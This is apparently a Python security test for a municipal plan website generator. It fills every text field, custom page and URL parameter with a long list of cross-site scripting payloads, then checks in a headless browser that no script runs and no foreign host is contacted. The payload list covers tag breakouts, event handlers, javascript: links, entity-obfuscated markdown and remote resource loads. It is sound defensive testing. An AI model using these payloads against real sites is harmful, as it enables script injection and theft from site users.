"""No one gets in: each payload in every text field a municipality has, and on its own pages; then
the pages, the search, the wall and the planner are opened, and nothing must have run or been
fetched.
"""

import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import yaml
from conftest import SUBPATH, build_site, copy_project
from klargjor import find_browser
from playwright.sync_api import Page, sync_playwright
from pydantic import ValidationError
from pydantic_core import PydanticCustomError
from tjener import serving

from herding import Omfang, Utfall
from kvalitetsplan.plan.addresses import all_lists, list_at
from kvalitetsplan.plan.checks import texts
from kvalitetsplan.plan.grunnplan import load_grunnplan
from kvalitetsplan.plan.load import load_plan
from kvalitetsplan.plan.model import Grunnplan, Punkt
from kvalitetsplan.plan.model.addresses import sound
from kvalitetsplan.plan.own_pages import read_page
from kvalitetsplan.plan.project import project_at
from kvalitetsplan.reading.problems import PlanError

RUNS = "window.kom_inn=1"
FOREIGN = "//fremmed.invalid"
PAYLOADS = (
    f"<script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"</template><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    f"</noscript><script>{RUNS}</script>",
    f"-->\"'><script>{RUNS}</script>",
    f"<ScRiPt >{RUNS}</sCrIpT>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src=x onerror='{RUNS}'//",
    f"<image src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg/onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={RUNS}>",
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}>",
    f"<audio src=x onerror={RUNS}>",
    f"<marquee onstart={RUNS}>",
    f"<iframe src=javascript:{RUNS}>",
    f"<iframe srcdoc='<script>{RUNS}</script>'>",
    f"<object data=javascript:{RUNS}>",
    f"<embed src=javascript:{RUNS}>",
    f"<a href=javascript:{RUNS}>trykk</a>",
    f"[trykk](javascript:{RUNS})",
    f"[trykk](JaVaScRiPt:{RUNS})",
    f"[trykk](java&#115;cript:{RUNS})",
    f"[trykk](&#x6A;avascript:{RUNS})",
    f"[trykk](<javascript:{RUNS}>)",
    f"[trykk](vbscript:{RUNS})",
    f"[trykk](data:text/html,<script>{RUNS}</script>)",
    f'![bilde](x" onerror="{RUNS})',
    f"![bilde]({FOREIGN}/a.png)",
    f"![bilde](https:{FOREIGN}/a.png)",
    f'<https:{FOREIGN}/"onmouseover={RUNS}>',
    f"[a]: javascript:{RUNS}",
    f'" onmouseover="{RUNS}',
    f"' onfocus='{RUNS}' autofocus='",
    f"`<script>{RUNS}</script>`",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUNS}&amp;gt;",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    f"<base href=https:{FOREIGN}/>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<style>@import url({FOREIGN}/a.css)</style>",
    f"<p style='background:url({FOREIGN}/a.png)'>",
    f"<form action={FOREIGN}><button>send</button></form>",
    f"<img srcset='{FOREIGN}/a.png 1x'>",
    f"<video poster={FOREIGN}/a.png>",
    f"<table background={FOREIGN}/a.png>",
    f"<a href=x ping={FOREIGN}>a</a>",
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"<!--><img src=x onerror={RUNS}>-->",
    f"<![CDATA[<img src=x onerror={RUNS}>]]>",
    f"<x{chr(47)}onclick={RUNS}>",
    f"\\<script>{RUNS}\\</script>",
    f"*<script>{RUNS}</script>*",
    f"\u2028<script>{RUNS}</script>".strip("\u2028"),
    f"${{{RUNS}}}".replace("{", "(").replace("}", ")"),
    f'");{RUNS};//',
    f"';{RUNS};'",
)
PAGES = (
    "index", "om-planen", "endringer", "begreper", "kilder", "lovverk", "situasjoner", "handlingsplikten",
    "samtaler", "fysiske-inngrep", "okter", "planlegg", "arshjul", "utviklingslop", "maler", "virkninger",
    "roller", "refleksjonsoppgaver", "treningsforslag", "tema/relasjon", "okt", "sider/egen", "404",
)  # fmt: skip


def run(omfang: Omfang) -> Iterator[Utfall]:
    """Try the payloads, some in each municipality."""
    payloads = PAYLOADS[:: 1 if omfang.lang else 9]
    with tempfile.TemporaryDirectory() as place:
        project = copy_project(Path(place) / "prosjekt")
        grunnplan = load_grunnplan(project / "data")
        pages = [one for one in payloads if _is_refused_as_page(Path(place), one)]
        yield from (Utfall(9, f"egen side: {one}") for one in pages)
        kept = [one for one in payloads if one not in pages]
        refused = [one for one in payloads if _is_refused_as_text(one)]
        yield from (Utfall(9, f"tekst: {one}") for one in refused)
        accepted = tuple(one for one in payloads if one not in refused)
        _write(project, _fields(accepted, grunnplan), kept)
        try:
            plan = load_plan(project_at(project), "prove", grunnplan)
            build_site(project, plan, Path(place) / "ut" / SUBPATH)
        except Exception as error:  # a payload that stops the build has got too far
            yield Utfall(9, "alle", f"{type(error).__name__}: {str(error)[:400]}")
            return
        for name, wrong in _opened(Path(place) / "ut", omfang.number(long=4, short=34)):
            inside = payloads if name in PAGES else [""]
            yield from (Utfall(9, f"{name}: {one}".rstrip(": "), wrong) for one in inside)


def _write(project: Path, fields: dict[str, Any], pages: list[str]) -> None:
    folder = project / "data/kommuner/prove"
    (folder / "sider").mkdir(parents=True, exist_ok=True)
    for name, value in fields.items():
        text = yaml.dump(value, allow_unicode=True, sort_keys=False, width=100_000)
        (folder / name).write_text(text, encoding="utf-8")
    body = "\n\n".join(f"Avsnitt {one}" for one in pages)
    (folder / "sider/egen.md").write_text(f"# Egen\n\n{body}\n", encoding="utf-8")


def _is_refused_as_page(place: Path, payload: str) -> bool:
    (path := place / "side.md").write_text(f"# Egen\n\nAvsnitt {payload}\n", encoding="utf-8")
    try:
        page = read_page(path, "sider/side.md", "side.md")
    except PlanError:
        return True
    return bool(page.links)  # what they lead to is not there, and that is refused too


def _is_refused_as_text(payload: str) -> bool:
    try:
        sound(payload)
    except PydanticCustomError:
        return True
    return False


def _fields(payloads: tuple[str, ...], grunnplan: Grunnplan) -> dict[str, Any]:
    """Return a municipality's files with each payload in every text field they have."""
    lists = [*all_lists(grunnplan)[:60], "relasjon/par", "relasjon/eksempler", "relasjon/refleksjonsoppgaver",
             "relasjon/treningsforslag"]  # fmt: skip
    added = []
    for name in dict.fromkeys(lists):
        first = next(iter(list_at(grunnplan, name) or ()), None)
        if (
            first is None
            or first.LOCKED
            or name in ("temaer", "parametre")
            or name.endswith("/virkninger")
        ):
            continue
        for number, payload in enumerate(payloads):
            fresh = {**_with(first, payload), "id": f"prove-{len(added)}-{number}"}
            added.append({"liste": name, "nytt": fresh})
    return {"kommune.yaml": _kommune(list(payloads)), "tilpasning.yaml": {"legg_til": added}}


def _with(item: Punkt, payload: str) -> dict[str, Any]:
    """Return an item with the payload in every field that takes any text."""
    whole = item.model_dump(mode="json", by_alias=True, exclude_none=True)
    for key in {key for key, _ in texts(item)}:
        changed = {**whole, key: [payload] if isinstance(whole[key], list) else payload}
        try:
            type(item).model_validate(changed)
        except ValidationError:
            continue
        whole = changed
    return whole


def _kommune(payloads: list[str]) -> dict[str, Any]:
    every = "\n\n".join(f"Avsnitt {one}" for one in payloads)
    short = " ".join(payloads)[:380]
    return {
        "nummer": "0000",
        "navn": short[:120],
        "farger": {"hoved": "#1b4f72", "aksent": "#b9770e"},
        "kontakt": {"rolle": short, "telefon": short},
        "lenker": [{"tekst": one, "adresse": "https://lenke.invalid/"} for one in payloads],
        "utgave": {"versjon": "1", "dato": "i dag", "nytt": payloads},
        "visjon": short,
        "forord": every[:3900],
        "merknad": every[:3900],
        "deler": [
            {
                "tittel": one,
                "ingress": one,
                "innhold": ["relasjon"] if number == 0 else ["sider/egen.md"],
            }
            for number, one in enumerate(payloads[:2])
        ],
    }


def _opened(out: Path, step: int) -> Iterator[tuple[str, str]]:
    """Open the pages, the search, the wall and the planner, and yield what went wrong on each."""
    with sync_playwright() as playwright, serving(out) as address:
        browser = playwright.chromium.launch(executable_path=find_browser(), args=["--no-sandbox"])
        page = browser.new_page()
        asked: list[str] = []
        page.on("request", lambda one: None if _is_own(one.url, address) else asked.append(one.url))
        top = f"{address}/{SUBPATH}/prove"
        for name in PAGES:
            page.goto(f"{top}/{name}.html")
            yield name, _wrong(page, asked)
        for name, words in _addresses(step):
            page.goto("about:blank")
            page.goto(f"{top}/{words}")
            page.wait_for_timeout(300)
            yield name, _wrong(page, asked)
        browser.close()


def _addresses(step: int) -> Iterator[tuple[str, str]]:
    """Yield addresses with a payload in each thing that may be asked for in them, every so many
    payloads.
    """
    yield "søk", "index.html?q=script onerror"
    for payload in PAYLOADS[::step]:
        said = quote(payload)
        yield f"søk: {payload}", f"index.html?q={said}"
        yield f"emneliste: {payload}", f"refleksjonsoppgaver.html?tema={said}&q={said}#{said}"
        asked = f"okt={said}&tittel={said}&les={said}&oppgaver=relasjon/prove,{said}&trening={said}"
        asked += f"&faser={said}:5&tid={said}&antall={said}&tema={said}"
        yield f"planlegger: {payload}", f"planlegg.html?{asked}#{said}"
        yield f"økt: {payload}", f"okt.html?{asked}"
        yield f"storskjerm: {payload}", f"okt.html?{asked}#storskjerm"
        yield f"leder: {payload}", f"okt.html?{asked}#leder"


def _wrong(page: Page, asked: list[str]) -> str:
    if asked:
        return f"ba om {asked.pop()}"
    if page.evaluate("window.kom_inn"):
        return "noe kjørte"
    found = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(one => [...one.attributes])"
        ".filter(one => /^on/i.test(one.name) || /^\\s*(javascript|vbscript|data:text)/i.test(one.value))"
        ".map(one => one.name + '=' + one.value)"
    )
    return f"står på siden: {found[0]}" if found else ""


def _is_own(url: str, address: str) -> bool:
    return url.startswith((address, "data:", "blob:"))
